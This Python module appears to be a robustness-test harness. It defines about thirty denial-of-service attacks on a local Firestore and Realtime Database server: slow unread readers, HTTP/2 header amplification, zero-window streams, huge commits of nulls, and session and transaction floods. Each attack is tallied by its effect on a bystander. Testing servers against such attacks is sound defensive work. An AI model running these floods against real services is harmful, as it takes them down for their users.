"""Attempts of one client to use up shared resources: `ATTACKS`, each a function of a server's port.

An attack stores its connections in `keep` until the bystander has been observed, and counts its answers, so that a row
of the table shows whether the attack took effect.
"""

from __future__ import annotations

import base64
import http.client
import json
import re
import socket
import struct
import threading
from collections import Counter
from collections.abc import Callable
from typing import Any

import grpc

from support import hostile

ROOT = "projects/abuse/databases/(default)/documents"
NAMESPACE = "abuse-default-rtdb"
WAIT_SECONDS_MAX = 20.0
FORM = "application/x-www-form-urlencoded"
CALLS_AT_ONCE = 8
CHANNEL = "/google.firestore.v1.Firestore/Write/channel?VER=8"

Outcome = Counter[str]


def send(port: int, method: str, path: str, body: Any = None, timeout: float = 30) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    data = body if isinstance(body, bytes) or body is None else json.dumps(body).encode()
    connection.request(method, path, data, {"Content-Type": "application/json"})
    answer = connection.getresponse()
    try:
        return answer.status, answer.read()
    finally:
        connection.close()


class Attacker:
    """One client's connections and the outcome of its requests."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.keep: list[socket.socket] = []
        self.outcome: Outcome = Counter()
        self._lock = threading.Lock()

    def note(self, what: object, count: int = 1) -> None:
        with self._lock:
            self.outcome[str(what)] += count

    def close(self) -> None:
        for peer in self.keep:
            peer.close()

    def send(self, method: str, path: str, body: Any = None) -> bytes:
        try:
            status, content = send(self.port, method, path, body)
        except (OSError, http.client.HTTPException) as error:
            self.note("cut" if isinstance(error, ConnectionError | http.client.HTTPException) else "no answer")
            return b""
        self.note(status)
        return content

    def connect(self, receive_bytes: int | None = None) -> socket.socket:
        peer = socket.socket()
        if receive_bytes is not None:
            # The client reads little of the server's output.
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        peer.settimeout(WAIT_SECONDS_MAX)
        peer.connect(("127.0.0.1", self.port))
        with self._lock:
            self.keep.append(peer)
        return peer

    def opened(self, method: str, path: str, length: int) -> socket.socket:
        peer = self.connect(4096)
        head = f"{method} {path} HTTP/1.1\r\nHost: h\r\nContent-Type: {FORM}\r\nContent-Length: {length}\r\n\r\n"
        peer.sendall(head.encode())
        return peer

    def ask_and_not_read(self, path: str, body: bytes | None = None) -> None:
        """Reads the status alone, and keeps the connection open."""
        peer = self.opened("GET" if body is None else "POST", path, len(body or b""))
        peer.sendall(body or b"")
        self.note(peer.recv(12)[9:12].decode() or "cut")

    def many(self, count: int, body: Callable[[int], None]) -> None:
        def run(number: int) -> None:
            try:
                body(number)
            except (OSError, http.client.HTTPException) as error:
                self.note("no answer" if isinstance(error, TimeoutError) else "cut")

        threads = [threading.Thread(target=run, args=(number,), daemon=True) for number in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(WAIT_SECONDS_MAX)

    def pipeline(self, one: bytes, count: int, each: int = 100) -> None:
        """Sends the same request repeatedly, with a fixed number in flight, and counts the answers by status."""
        peer = self.connect()
        for _ in range(count // each):
            peer.sendall(one * each)
            received = b""
            while len(found := re.findall(rb"HTTP/1\.1 (\d+) ", received)) < each:
                piece = peer.recv(1 << 20)
                if not piece:
                    raise ConnectionError
                received += piece
            for status in found:
                self.note(status.decode())


def fill(port: int, count: int, size: int) -> None:
    for start in range(0, count, 100):
        writes = [
            {
                "update": {
                    "name": f"{ROOT}/c/{number:05d}",
                    "fields": {
                        "a": {"integerValue": "1"},
                        "b": {"integerValue": str(-number)},
                        "t": {"stringValue": "x" * size},
                    },
                }
            }
            for number in range(start, min(count, start + 100))
        ]
        assert send(port, "POST", f"/v1/{ROOT}:commit", {"writes": writes})[0] == 200


# Reads


def sorted_query(*, aggregated: bool) -> bytes:
    query: dict[str, Any] = {
        "from": [{"collectionId": "c"}],
        "where": {"fieldFilter": {"field": {"fieldPath": "a"}, "op": "EQUAL", "value": {"integerValue": "1"}}},
        "orderBy": [{"field": {"fieldPath": "b"}}],
    }
    if not aggregated:
        return json.dumps({"structuredQuery": query}).encode()
    sums = {"structuredQuery": query, "aggregations": [{"alias": "s", "sum": {"field": {"fieldPath": "b"}}}]}
    return json.dumps({"structuredAggregationQuery": sums}).encode()


def slow_sorted_readers(attacker: Attacker) -> None:
    attacker.many(64, lambda _: attacker.ask_and_not_read(f"/v1/{ROOT}:runQuery", sorted_query(aggregated=False)))


def queued_aggregations(attacker: Attacker) -> None:
    body = sorted_query(aggregated=True)
    attacker.many(250, lambda _: attacker.ask_and_not_read(f"/v1/{ROOT}:runAggregationQuery", body))


def sums_of_much(attacker: Attacker) -> None:
    """Eight clients each of which sums 60,000 documents twice."""
    for start in range(0, 60_000, 10_000):
        writes = [
            {"update": {"name": f"{ROOT}/much/d{number:06}", "fields": {"n": {"integerValue": str(number)}}}}
            for number in range(start, start + 10_000)
        ]
        attacker.send("POST", f"/v1/{ROOT}:commit", json.dumps({"writes": writes}).encode())
    sums = [{"alias": "a", "sum": {"field": {"fieldPath": "n"}}}]
    asked = {"structuredQuery": {"from": [{"collectionId": "much"}]}, "aggregations": sums}
    body = json.dumps({"structuredAggregationQuery": asked}).encode()

    def one(_: int) -> None:
        for _ in range(2):
            attacker.send("POST", f"/v1/{ROOT}:runAggregationQuery", body)

    attacker.many(8, one)


def large_batches(attacker: Attacker) -> None:
    names = [f"{ROOT}/c/{number % 500:05d}" for number in range(20_000)]
    body = json.dumps({"documents": names}).encode()
    attacker.many(16, lambda _: attacker.ask_and_not_read(f"/v1/{ROOT}:batchGet", body))


def _heads(received: bytes) -> int:
    return sum(kind == hostile.HEADERS for kind, *_ in hostile.frames(received))


def closed_windows(attacker: Attacker) -> None:
    """Streams of HTTP/2 that may send nothing: 16 connections with 100 queries each."""
    query = _field(1, ROOT.encode()) + _field(2, _field(2, _field(2, b"c")))

    def one(_: int) -> None:
        peer = hostile.Peer(attacker.port)
        attacker.keep.append(peer.socket)
        calls = b"".join(hostile.call(2 * number + 1, "RunQuery", query) for number in range(100))
        peer.push(hostile.PREFACE + hostile.settings(s4=0) + calls)
        # The server processes this many calls of a connection at a time; their heads need no window.
        received = peer.read_until(lambda got: _heads(got) >= CALLS_AT_ONCE)
        attacker.note("heads of answers", _heads(received))

    attacker.many(16, one)


def _hpack_length(count: int) -> bytes:
    """In a prefix of seven bits."""
    made, rest = b"\x7f", count - 127
    while rest > 0x7F:
        made += bytes([rest & 0x7F | 0x80])
        rest >>= 7
    return made + bytes([rest])


def streams_with_large_heads(attacker: Attacker) -> None:
    """Streams that stay open, whose heads of 60 KB are 100 bytes on the wire: 60 connections with 250 each."""
    fields = [("content-type", "application/grpc"), ("te", "trailers")]
    head = hostile.head("/google.firestore.v1.Firestore/Listen", "POST", fields)
    entry = b"\x40\x01x" + _hpack_length(3900) + b"y" * 3900
    first = hostile.frame(hostile.HEADERS, hostile.END_HEADERS, 1, head + entry)

    def one(_: int) -> None:
        peer = hostile.Peer(attacker.port)
        attacker.keep.append(peer.socket)
        # The newest entry of the table, fifteen times.
        more = (
            hostile.frame(hostile.HEADERS, hostile.END_HEADERS, 2 * number + 1, head + b"\xbe" * 15)
            for number in range(1, 250)
        )
        peer.push(hostile.PREFACE + hostile.settings() + first + b"".join(more))
        attacker.note("opened")

    attacker.many(60, one)


def waiting_requests(attacker: Attacker) -> None:
    """1,500 connections whose answer continues, with 200 KB of requests after it."""
    large_value(attacker)
    behind = b"GET / HTTP/1.1\r\nHost: h\r\n\r\n" * 7000

    def one(_: int) -> None:
        for _ in range(75):
            peer = attacker.connect()
            peer.setblocking(False)
            request = f"GET {database('other', '&sse=true')} HTTP/1.1\r\nHost: h\r\nAccept: text/event-stream\r\n\r\n"
            try:
                peer.send(request.encode() + behind)
                attacker.note("asked")
            except BlockingIOError:
                attacker.note("blocked")

    attacker.many(20, one)


# Writes


def _field(number: int, content: bytes) -> bytes:
    """A field of protobuf whose value has a length."""
    length, rest = b"", len(content)
    while rest > 0x7F:
        length += bytes([rest & 0x7F | 0x80])
        rest >>= 7
    return bytes([number << 3 | 2]) + length + bytes([rest]) + content


def _commit_of_nulls_as_json(count: int) -> bytes:
    values = ",".join(['{"nullValue":null}'] * count)
    fields = f'{{"v":{{"arrayValue":{{"values":[{values}]}}}}}}'
    return f'{{"writes":[{{"update":{{"name":"{ROOT}/c/nulls","fields":{fields}}}}}]}}'.encode()


def commits_of_nulls(attacker: Attacker) -> None:
    body = _commit_of_nulls_as_json(500_000)
    attacker.many(12, lambda _: attacker.send("POST", f"/v1/{ROOT}:commit", body) and None)


def grpc_commits_of_nulls(attacker: Attacker) -> None:
    """Messages of 12 MB that are 3,000,000 values."""
    nulls = _field(9, _field(1, b"\x58\0") * 3_000_000)
    entry = _field(1, b"v") + _field(2, nulls)
    document = _field(1, f"{ROOT}/c/nulls".encode()) + _field(2, entry)
    message = _field(1, ROOT.removesuffix("/documents").encode()) + _field(2, _field(1, document))

    def one(_: int) -> None:
        with grpc.insecure_channel(f"127.0.0.1:{attacker.port}") as channel:
            commit = channel.unary_unary("/google.firestore.v1.Firestore/Commit")
            try:
                commit(message, timeout=WAIT_SECONDS_MAX)
                attacker.note("OK")
            except grpc.RpcError as error:
                attacker.note(error.code().name)

    attacker.many(8, one)


def commits_into_many_databases(attacker: Attacker) -> None:
    """6,000 commits at a time of 31,000 values in 124 KB each, into 30 databases."""
    nulls = _field(9, _field(1, b"\x58\0") * 31_000)
    fields = _field(2, _field(1, b"v") + _field(2, nulls))

    def one(connection: int) -> None:
        database = f"projects/abuse/databases/many{connection}"
        with grpc.insecure_channel(
            f"127.0.0.1:{attacker.port}", options=[("grpc.use_local_subchannel_pool", 1)]
        ) as channel:
            commit = channel.unary_unary("/google.firestore.v1.Firestore/Commit")
            calls = []
            for number in range(200):
                document = _field(1, f"{database}/documents/c/{number}".encode()) + fields
                message = _field(1, database.encode()) + _field(2, _field(1, document))
                calls.append(commit.future(message, timeout=WAIT_SECONDS_MAX))
            for call in calls:
                try:
                    call.result()
                    attacker.note("OK")
                except grpc.RpcError as error:
                    attacker.note(error.code().name)

    attacker.many(30, one)


def large_deletes(attacker: Attacker) -> None:
    body = {"writes": [{"delete": f"{ROOT}/gone/{number}"} for number in range(16_000)]}
    data = json.dumps(body).encode()
    attacker.many(4, lambda _: attacker.send("POST", f"/v1/{ROOT}:commit", data) and None)


def commits_in_flight(attacker: Attacker) -> None:
    """32 commits at a time of 18,000 array elements each."""
    values = [{"integerValue": str(number)} for number in range(18_000)]
    document = {"name": f"{ROOT}/one/document", "fields": {"v": {"arrayValue": {"values": values}}}}
    data = json.dumps({"writes": [{"update": document}]}).encode()

    def one(_: int) -> None:
        for _ in range(8):
            attacker.send("POST", f"/v1/{ROOT}:commit", data)

    attacker.many(32, one)


def commits_that_change_all(attacker: Attacker) -> None:
    """Eight documents of 18,000 array elements, all of which change in each commit: 72,000 records a commit."""

    def commit(document: int, first: int) -> bytes:
        values = [{"integerValue": str(first + number)} for number in range(18_000)]
        update = {"name": f"{ROOT}/all/{document}", "fields": {"v": {"arrayValue": {"values": values}}}}
        return json.dumps({"writes": [{"update": update}]}).encode()

    def one(document: int) -> None:
        bodies = [commit(document, 0), commit(document, 20_000)]
        for count in range(6):
            attacker.send("POST", f"/v1/{ROOT}:commit", bodies[count % 2])

    attacker.many(8, one)


def small_changes_of_large_documents(attacker: Attacker) -> None:
    """Four clients that change one number in each of six documents with a map of 60,000 nulls, some times."""
    nulls = {f"f{number}": {"nullValue": None} for number in range(60_000)}
    value = {"arrayValue": {"values": [{"mapValue": {"fields": nulls}}]}}

    def name(place: int, number: int) -> str:
        return f"{ROOT}/heavy/{place}-{number}"

    def one(place: int) -> None:
        for number in range(6):
            update = {"name": name(place, number), "fields": {"v": value}}
            attacker.send("POST", f"/v1/{ROOT}:commit", json.dumps({"writes": [{"update": update}]}).encode())
        for turn in range(6):
            changed = {"n": {"integerValue": str(turn)}}
            writes = [
                {"update": {"name": name(place, number), "fields": changed}, "updateMask": {"fieldPaths": ["n"]}}
                for number in range(6)
            ]
            attacker.send("POST", f"/v1/{ROOT}:commit", json.dumps({"writes": writes}).encode())

    attacker.many(4, one)


# Sessions, transactions, databases


def handshake(attacker: Attacker) -> str:
    body = attacker.send("POST", CHANNEL + "&RID=1", b"count=0").decode()
    found = re.search(r'\["c","([^"]+)"', body)
    if not found:
        raise ConnectionError
    return found[1]


def early_messages(attacker: Attacker) -> None:
    body = b"count=1&ofs=5&req0___data__=" + b"x" * (20 << 20)
    attacker.many(40, lambda _: attacker.send("POST", f"{CHANNEL}&RID=2&SID={handshake(attacker)}", body) and None)


def large_forms(attacker: Attacker) -> None:
    session = handshake(attacker)
    for path in (f"{CHANNEL}&RID=2&SID={session}", f"{CHANNEL}&RID=1"):
        attacker.send("POST", path, b"a&" * (18 << 20))


def many_sessions(attacker: Attacker) -> None:
    one = f"POST {CHANNEL}&RID=1 HTTP/1.1\r\nHost: h\r\nContent-Length: 7\r\n\r\ncount=0".encode()
    attacker.many(4, lambda _: attacker.pipeline(one, 6000))


def many_transactions(attacker: Attacker) -> None:
    one = f"POST /v1/{ROOT}:beginTransaction HTTP/1.1\r\nHost: h\r\nContent-Length: 2\r\n\r\n{{}}".encode()
    attacker.many(4, lambda _: attacker.pipeline(one, 6000))


def many_databases(attacker: Attacker) -> None:
    def one(thread: int) -> None:
        for number in range(thread * 500, thread * 500 + 500):
            attacker.send("GET", f"/v1/projects/p{number}/databases/(default)/documents/a/b")
            attacker.send("GET", f"/a.json?ns=n{number}")

    attacker.many(6, one)


def unfinished_bodies(attacker: Attacker) -> None:
    def one(_: int) -> None:
        attacker.opened("POST", f"/v1/{ROOT}:commit", 16 << 20).sendall(b" " * (15 << 20))
        attacker.note("taken whole")

    attacker.many(40, one)


# The Realtime Database


def ones(megabytes: int) -> bytes:
    """The JSON with the largest memory use: an array of numbers of one digit."""
    return b"[" + b"1," * (megabytes << 19) + b"1]"


def database(path: str, more: str = "") -> str:
    return f"/{path}.json?ns={NAMESPACE}{more}"


def puts_of_ones(attacker: Attacker) -> None:
    attacker.many(8, lambda number: attacker.send("PUT", database(f"ones/{number}"), ones(2)) and None)


def puts_of_too_many_ones(attacker: Attacker) -> None:
    attacker.many(6, lambda number: attacker.send("PUT", database("ones"), ones(60)) and None)


def text_frame(content: bytes) -> bytes:
    size = len(content)
    length = bytes([0x80 | size]) if size < 126 else (
        bytes([0x80 | 126]) + struct.pack(">H", size) if size < 65_536 else bytes([0x80 | 127]) + struct.pack(">Q", size))
    # A mask of zeros changes nothing.
    return b"\x81" + length + b"\0\0\0\0" + content


def open_socket(attacker: Attacker, receive_bytes: int | None = None) -> socket.socket:
    made = attacker.connect(receive_bytes)
    made.sendall(
        f"GET /.ws?v=5&ns={NAMESPACE} HTTP/1.1\r\nHost: 127.0.0.1:{attacker.port}\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode())
    received = b""
    while b'"t":"h"' not in received:
        piece = made.recv(65_536)
        if not piece:
            raise ConnectionError
        received += piece
    return made


def message(number: int, action: str, path: str, data: bytes = b"1") -> bytes:
    more = b'"h":"",' if action == "q" else b""
    return b'{"t":"d","d":{"r":%d,"a":"%s","b":{"p":"%s",%s"d":%s}}}' % (
        number, action.encode(), path.encode(), more, data)


def socket_puts(attacker: Attacker) -> None:
    content = text_frame(message(1, "p", "ones", ones(14)))

    def one(_: int) -> None:
        made = open_socket(attacker)
        made.sendall(content)
        received = b""
        while b'"r":1' not in received and (piece := made.recv(65_536)):
            received += piece
        attacker.note("answered" if b'"r":1' in received else "closed")

    attacker.many(6, one)


def large_value(attacker: Attacker) -> None:
    assert send(attacker.port, "PUT", database("large"), b'"' + b"x" * 4_000_000 + b'"')[0] == 200


def wide_patches(attacker: Attacker) -> None:
    """Two updates of 40,000 locations each, some times."""
    bodies = [json.dumps({f"k{number}": turn for number in range(40_000)}).encode() for turn in (1, 2)]

    def one(place: int) -> None:
        for turn in range(4):
            attacker.send("PATCH", database(f"wide/{place}"), bodies[turn % 2])

    attacker.many(2, one)


def unread_sockets(attacker: Attacker) -> None:
    large_value(attacker)

    def one(_: int) -> None:
        made = open_socket(attacker, 4096)
        for number in range(8):
            made.sendall(text_frame(message(number + 1, "g", "large")))
        made.sendall(text_frame(message(9, "q", "large")))
        attacker.note("asked")

    attacker.many(60, one)


def unread_streams(attacker: Attacker) -> None:
    large_value(attacker)
    attacker.many(60, lambda _: attacker.ask_and_not_read(database("", "&sse=true")))
    for number in range(20):
        attacker.send("PUT", database("other"), json.dumps("y" * 100_000 + str(number)).encode())


def unfetched_polls(attacker: Attacker) -> None:
    large_value(attacker)
    text = base64.urlsafe_b64encode(message(1, "q", "large")).decode().replace("=", ".")

    def one(_: int) -> None:
        script = attacker.send("GET", f"/.lp?start=t&ser=1&cb=7&v=5&ns={NAMESPACE}").decode()
        found = re.search(r'"start","([0-9a-f]+)","([0-9a-f]+)"', script)
        if found:
            attacker.opened("GET", f"/.lp?id={found[1]}&pw={found[2]}&ser=2&seg0=0&ts0=1&d0={text}", 0)

    attacker.many(60, one)


def slow_readers_of_much(attacker: Attacker, prefix: str = "") -> None:
    """Answers of 64 MB, which wait in files. Without a prefix the keys are indexes: a possible array is built in
    memory.
    """
    for part in range(16):
        send(attacker.port, "PUT", database(f"much/{prefix}{part}"), b'"' + b"x" * 4_000_000 + b'"')
    attacker.many(60, lambda _: attacker.ask_and_not_read(database("much")))


ATTACKS: dict[str, Callable[[Attacker], None]] = {
    "nobody": lambda attacker: None,
    "64 slow readers of a sorted query": slow_sorted_readers,
    "250 aggregations": queued_aggregations,
    "16 sums of 60,000 documents": sums_of_much,
    "16 batches of 20,000 documents, unread": large_batches,
    "1,600 queries into windows of 0 bytes": closed_windows,
    "15,000 streams with heads of 60 KB": streams_with_large_heads,
    "1,500 connections with 200 KB of requests that wait": waiting_requests,
    "12 commits of 500,000 nulls": commits_of_nulls,
    "8 commits of 3,000,000 nulls over gRPC": grpc_commits_of_nulls,
    "6,000 commits of 31,000 nulls into 30 databases": commits_into_many_databases,
    "4 commits of 16,000 deletes": large_deletes,
    "32 commits in flight of 18,000 elements": commits_in_flight,
    "48 commits that change 18,000 elements altogether": commits_that_change_all,
    "24 small changes of six large documents": small_changes_of_large_documents,
    "40 sessions with 20 MB ahead of their turn": early_messages,
    "forms of 36 MB": large_forms,
    "24,000 sessions": many_sessions,
    "24,000 transactions": many_transactions,
    "3,000 databases and namespaces read": many_databases,
    "40 unfinished bodies of 15 MB": unfinished_bodies,
    "8 puts of 2 MB of ones": puts_of_ones,
    "6 puts of 60 MB of ones": puts_of_too_many_ones,
    "6 puts of 14 MB of ones over sockets": socket_puts,
    "8 patches of 40,000 locations": wide_patches,
    "60 sockets with 36 MB each, unread": unread_sockets,
    "60 event streams of 4 MB, unread": unread_streams,
    "60 polls of 4 MB, not fetched": unfetched_polls,
    "60 slow readers of 64 MB": slow_readers_of_much,
}
